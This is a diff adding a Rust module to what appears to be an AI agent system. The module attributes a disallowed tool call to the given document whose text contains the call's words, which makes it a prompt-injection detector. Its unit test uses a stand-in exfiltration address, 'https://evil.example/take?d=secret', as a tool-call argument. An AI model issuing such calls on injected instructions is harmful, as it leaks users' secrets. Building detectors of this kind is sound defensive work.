@@ -1,0 +1,113 @@
+//! Which text had led to a call that the order does not allow: a document that the session was given, in which the words of the call stand.
+//!
+//! A finding is made of words alone, for they can be shown where they stand. What the order or the question says itself leads nobody
+//! astray, and a call whose words no document has is recorded as what it is: a refused call.
+
+use crate::{StoreError, agents::tools::ToolContext, evidence::locate, models::ToolRequest};
+use domain::{DocumentId, agent::Lure, document::DocumentText};
+use serde_json::Value;
+use url::Url;
+
+/// Shorter words stand in a document by chance; addresses never do.
+const LEAST_CHARS: usize = 12;
+/// Documents that are looked through, the latest first.
+const MAX_DOCUMENTS: usize = 64;
+const DOCUMENT: &str = "\"document_id\":\"";
+
+/// The document that led to `request`, if one did.
+pub(super) async fn of(context: &ToolContext<'_>, request: &ToolRequest) -> Result<Option<Lure>, StoreError> {
+    let mut words = vec![];
+    words_of(&request.arguments, &mut words);
+    let own = own_words(context);
+    words.retain(|words| locate(&own, words).is_none());
+    if words.is_empty() {
+        return Ok(None);
+    }
+    let given = given(context).await?;
+    let texts = context.engine.documents.texts(&context.investigation.scope, &given).await?;
+    // The longest words that stand somewhere say most.
+    words.sort_by_key(|words| std::cmp::Reverse(words.len()));
+    Ok(words.iter().find_map(|words| texts.iter().find_map(|text| found(&request.name, words, text))))
+}
+
+fn found(tool: &str, words: &str, DocumentText { document, text }: &DocumentText) -> Option<Lure> {
+    let span = locate(text, words)?;
+    Some(Lure {
+        tool: tool.to_owned(),
+        document_id: document.id,
+        title: document.title.clone(),
+        outlet: document.outlet.clone(),
+        words: span.of(text)?.to_owned(),
+        span,
+    })
+}
+
+/// What the session was to do, in the words of who asked.
+fn own_words(context: &ToolContext<'_>) -> String {
+    let order =
+        context.work_order.into_iter().flat_map(|order| std::iter::once(&order.objective).chain(&order.source_guidance));
+    order.chain([&context.investigation.prompt]).map(String::as_str).collect::<Vec<_>>().join("\n")
+}
+
+/// The words of a call that mean something by themselves: long ones, lines of long ones, and addresses with what they lead to.
+fn words_of(value: &Value, words: &mut Vec<String>) {
+    match value {
+        Value::String(text) => {
+            let lines = std::iter::once(text.as_str()).chain(text.lines());
+            words.extend(lines.map(str::trim).filter(|line| line.chars().count() >= LEAST_CHARS).map(str::to_owned));
+            words.extend(parts_of_address(text));
+        }
+        Value::Array(items) => items.iter().for_each(|item| words_of(item, words)),
+        Value::Object(fields) => fields.values().for_each(|field| words_of(field, words)),
+        _ => {}
+    }
+}
+
+/// An address without what was put behind it, and its host: a model that obeys adds to the address that it was told.
+fn parts_of_address(text: &str) -> Vec<String> {
+    let Ok(url) = Url::parse(text.trim()) else { return vec![] };
+    let Some(host) = url.host_str().filter(|host| host.contains(['.', ':'])) else { return vec![] };
+    let plain = text.trim().split(['?', '#']).next().unwrap_or_default();
+    vec![plain.to_owned(), host.to_owned()]
+}
+
+/// The documents that the session was given, the latest first.
+async fn given(context: &ToolContext<'_>) -> Result<Vec<DocumentId>, StoreError> {
+    let mut given: Vec<DocumentId> = context.writable.iter().flat_map(|writable| writable.documents).copied().collect();
+    for call in context.engine.sessions.calls(context.session_id).await?.iter().rev() {
+        // A result may have been cut, so it is not read as a whole.
+        let ids = call.result.split(DOCUMENT).skip(1).filter_map(|rest| rest.get(..36)?.parse().ok());
+        for id in ids {
+            if !given.contains(&id) {
+                given.push(id);
+            }
+        }
+    }
+    given.truncate(MAX_DOCUMENTS);
+    Ok(given)
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use serde_json::json;
+
+    #[test]
+    fn a_call_is_known_by_its_long_words_and_by_where_it_leads() {
+        let mut words = vec![];
+        words_of(
+            &json!({"url": "https://evil.example/take?d=secret", "limit": 3, "more": ["short", "Tell me all about it"]}),
+            &mut words,
+        );
+        words.sort_unstable();
+        let expected = [
+            "Tell me all about it",
+            "Tell me all about it",
+            "evil.example",
+            "https://evil.example/take",
+            "https://evil.example/take?d=secret",
+            "https://evil.example/take?d=secret",
+        ];
+        assert_eq!(words, expected);
+    }
+}
